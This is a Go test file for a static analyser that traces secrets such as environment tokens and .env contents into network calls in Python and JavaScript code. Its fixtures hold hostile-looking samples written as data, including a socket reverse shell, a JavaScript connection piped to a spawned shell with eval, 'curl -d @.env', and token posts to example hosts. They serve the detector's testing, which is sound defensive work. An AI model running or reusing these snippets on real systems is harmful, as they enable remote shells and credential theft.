package chain_test

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/skillctl/skillctl/engine/flow/chain"
	"github.com/skillctl/skillctl/engine/flow/way"
	"github.com/skillctl/skillctl/internal/document"
)

// What is made to be slow ends: where the steps that are followed do, and that is said.
// Where nothing else runs it is a tenth of a second each.
func TestBounds(t *testing.T) {
	head, tail := "import os, requests\nk = os.environ['ACME_TOKEN']\n", "requests.post('https://a.example.com', data=x)\n"
	for name, body := range map[string]string{
		"nested deep": "x = " + strings.Repeat("(", 100_000) + "k\n",
		"many words":  strings.Repeat("x = [1, 2, 3, 4, 5, 6, 7, 8]\n", 35_000),
		"calls": many(300, func(i int) string {
			return fmt.Sprintf("def f%d(*a):\n%s", i, many(8, func(j int) string { return fmt.Sprintf("    f%d(a, k, 'https://h%d')\n", (i*3+j)%300, j) }))
		}) + "x = f0(k)\n",
		"in itself":    "x = {}\n" + many(3000, func(i int) string { return fmt.Sprintf("x['k%d'] = {'a': x, 'b': k, 'c': [x, x]}\n", i) }),
		"many ways":    many(200, func(i int) string { return fmt.Sprintf("requests.post('https://h%d.example.com', data=k)\n", i) }) + "x = 1\n",
		"many hosts":   many(210, func(i int) string { return fmt.Sprintf("requests.get('https://h%d.example.com')\n", i) }) + "x = 1\n",
		"blocks, deep": many(1000, func(i int) string { return strings.Repeat(" ", i) + "if k:\n" }) + "x = 1\n",
	} {
		t.Run(name, func(t *testing.T) {
			said := false
			chain.Follow([]way.Text{{File: "a.py", Source: []byte(head + body + tail), Language: way.Python, Start: document.Position{Line: 1, Column: 1}}}, nil, chain.Options{Cut: func(string, string) { said = true }})
			if !said {
				t.Error("nothing says that it was not followed to the end")
			}
		})
	}
}

// TestToldUpTo: what is beyond a bound is said, and the same things once more are not beyond it.
func TestToldUpTo(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		line string
		want bool
	}{
		"commands":          {"os.system('rm a%d')\n", true},
		"the same command":  {"os.system('rm a'); x%d = 1\n", false},
		"the same host":     {"requests.get('https://a.example.com'); x%d = 1\n", false},
		"handlers":          {"logging.handlers.HTTPHandler('h%d.example.com', '/')\n", true},
		"the same handler":  {"logging.handlers.HTTPHandler('h.example.com', '/'); x%d = 1\n", false},
		"secrets":           {"logging.info('%d' + k)\n", true},
		"secrets, one name": {"print('%d' + k)\n", false},
	} {
		said := ""
		text := "import os, logging, logging.handlers, requests\nk = os.environ['ACME_TOKEN']\n" + many(2100, func(i int) string { return fmt.Sprintf(c.line, i) })
		chain.Follow([]way.Text{{File: "a.py", Source: []byte(text), Language: way.Python, Start: document.Position{Line: 1, Column: 1}}}, nil, chain.Options{Cut: func(_, why string) { said = why }})
		if (said != "") != c.want {
			t.Errorf("%s: said %q", name, said)
		}
	}
}

func many(n int, one func(int) string) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(one(i))
	}
	return b.String()
}

// Ten thousand functions that call each other are followed to the end.
func TestManyFunctions(t *testing.T) {
	text := "import os, requests\n" + many(10_000, func(i int) string {
		return fmt.Sprintf("def f%d(a):\n    return f%d(a) if a else g(a)\n", i, i/2-1)
	}) + "requests.post('https://a.example.com', data=os.environ['ACME_TOKEN'])\n"
	if got := follow(t, "-- a.py --\n"+text); len(got) != 1 {
		t.Errorf("got %q", got)
	}
}

// FuzzFollow follows any program without a panic and in bounded time.
func FuzzFollow(f *testing.F) {
	f.Add([]byte("import os,requests\nrequests.post('https://a', data=os.environ)"), true)
	f.Add([]byte("fetch(`https://${process.env.A_KEY}.b.c`).then(r => eval(r))"), false)
	f.Add([]byte("import os\nclass A:\n def f(self, *a): self.x = a[0]; return self.f(self.x)\nA().f(open('.env').read())\nos.system('curl -d @.env h')"), true)
	f.Add([]byte("import os,socket,subprocess\ns=socket.socket()\ns.connect(('a.b',1))\nos.dup2(s.fileno(),0)\nsubprocess.run(['sudo','python3','-u',s.recv(9)],input={'a':[s]})\nopen('~/.x','a').write(s)"), true)
	f.Add([]byte("const c=net.connect({host:'a.b'},()=>{const p=child_process.spawn('sh');c.pipe(p.stdin);p.stdout.pipe(c)});c.onmessage=e=>eval(atob('YWFhYWFhYWFhYWFhYWFh'+e))"), false)
	f.Add([]byte("a=f''+f'{}'\nprint(f'', f'' % a)"), true)
	f.Add([]byte("a=``+`${}`;`${a}`/``"), false)
	f.Add([]byte("x = '{-1}{+1}{0}'.format(1)"), true)
	f.Add([]byte("import os\n# far behind the end of the other text\ndef f(x=os.environ['A_KEY'], *a):\n  a += [1]\n  return f(*a, *a)\x00from a import f\nf()"), true)
	f.Add([]byte("// far behind the end of the other text\nexport function f({token: other}) { return other }\x00import {f} from './a.js'\nf({token: process.env.A_KEY})"), false)
	f.Fuzz(func(t *testing.T, text []byte, python bool) {
		language, end := way.JavaScript, ".js"
		if python {
			language, end = way.Python, ".py"
		}
		var texts []way.Text
		for i, source := range bytes.SplitN(text, []byte{0}, 3) {
			file := string(rune('a'+i)) + end
			texts = append(texts, way.Text{File: file, Source: source, Language: language, Start: document.Position{Line: 1, Column: 1}})
		}
		chain.Follow(texts, nil, chain.Options{
			Lasting: func(string) bool { return true }, Touches: true, Told: func(string, document.Span, string) {},
			Cut: func(file, why string) {
				if strings.Contains(why, "a fault of its own") {
					t.Errorf("%s: %s", file, why)
				}
			},
		})
	})
}

// A package is followed whatever its parts are called with, and where they stand.
func TestOddCalls(t *testing.T) {
	far := strings.Repeat("# far behind the end of the other text\n", 40)
	list := strings.TrimSuffix(strings.Repeat("1,", 250), ",")
	for name, text := range map[string]string{
		"a number below zero in a format": "-- a.py --\nimport os, requests\nk = os.environ['ACME_TOKEN']\nrequests.post('https://a.example.com', data='{-1}{}'.format(k))\n",
		"a default in another text":       "-- lib.py --\n" + far + "import os\ndef f(x=os.environ['ACME_TOKEN']):\n    return x\n-- a.py --\nimport requests, lib\nrequests.post('https://a.example.com', data=lib.f())\n",
		"a pattern in another text":       "-- lib.js --\n" + strings.ReplaceAll(far, "#", "//") + "export function f({token: other}) { return other }\n-- a.js --\nimport {f} from './lib.js'\nfetch('https://a.example.com', {method: 'POST', body: f({token: process.env.ACME_TOKEN})})\n",
		"more arguments than are kept":    "-- a.py --\nimport os, requests\ndef f(*a):\n    a += [os.environ['ACME_TOKEN']]\n    return a\nrequests.post('https://a.example.com', data=f(" + list + "))\n",
		"a list that doubles":             "-- a.py --\nimport os, requests\na = [os.environ['ACME_TOKEN'], 1]\n" + strings.Repeat("a = [*a, *a]\n", 40) + "requests.post('https://a.example.com', data=a)\n",
		"arguments that double":           "-- a.py --\nimport os, requests\ndef f(*a):\n    return a\na = [1, os.environ['ACME_TOKEN']]\n" + strings.Repeat("a = f(*a, *a)\n", 40) + "requests.post('https://a.example.com', data=a)\n",
	} {
		if got := follow(t, text); len(got) != 1 {
			t.Errorf("%s: got %q", name, got)
		}
	}
}

// What fails at a program is said of it, and what was found before stays.
func TestFails(t *testing.T) {
	first := "import os, requests\nrequests.post('https://a.example.com', data=os.environ['ACME_TOKEN'])\n"
	var said []string
	got := chain.Follow([]way.Text{
		{File: "a.py", Source: []byte(first), Language: way.Python}, {File: "b.py", Source: []byte("x = 'a' + 'b'\n"), Language: way.Python},
	}, nil, chain.Options{
		Told: func(file string, _ document.Span, _ string) {
			if file == "b.py" {
				panic("out of range")
			}
		},
		Cut: func(file, why string) { said = append(said, file+": "+why) },
	})
	if len(got.Chains) != 1 || len(said) != 1 || !strings.HasPrefix(said[0], "b.py: ") || !strings.Contains(said[0], "a fault of its own: out of range") {
		t.Errorf("%d chains, said %q", len(got.Chains), said)
	}
}
